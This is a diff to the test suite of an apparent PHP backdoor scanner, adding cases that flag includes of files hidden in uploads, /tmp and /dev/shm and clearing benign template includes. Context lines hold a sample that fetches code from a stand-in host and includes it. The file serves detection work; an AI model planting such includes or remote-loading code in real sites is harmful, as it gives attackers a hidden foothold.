@@ -172,6 +172,9 @@ describe('what planted scripts do', () => {
       'php.request-to-command critical',
     ],
     ['include a picture', `include 'images/logo.ico';`, 'php.odd-include high'],
+    ['include a picture beside itself', `@include __DIR__ . '/../uploads/logo.ico';`, 'php.odd-include high'],
+    ['include out of /tmp', `include '/tmp/.s';`, 'php.odd-include high'],
+    ['include out of shared memory', `@include_once '/dev/shm/cache.php';`, 'php.odd-include high'],
     [
       'load what another server gives',
       `$f = '/tmp/a1'; file_put_contents($f, file_get_contents('https://a.example.test/b.txt')); include $f;`,
@@ -206,6 +209,8 @@ describe('what honest scripts do', () => {
       `function render($file, $vars) { extract($vars); ob_start(); include $file; return ob_get_clean(); }`,
     ],
     ['call an allowed action', `$actions = array('list' => 'show_list'); $f = $actions[${GET}['a']]; $f();`],
+    ['put an icon of markup into a page', `include __DIR__ . '/icons/menu.svg';`],
+    ['keep templates in a folder of their own', `include sys_get_temp_dir() . '/inert/' . md5($name) . '.php';`],
     ['quote an argument', `exec('convert ' . escapeshellarg(${GET}['f']));`],
     ['quote an argument by a function of their own', `exec(TOOL . ' ' . quoteshellarg(${GET}['f']));`],
     [
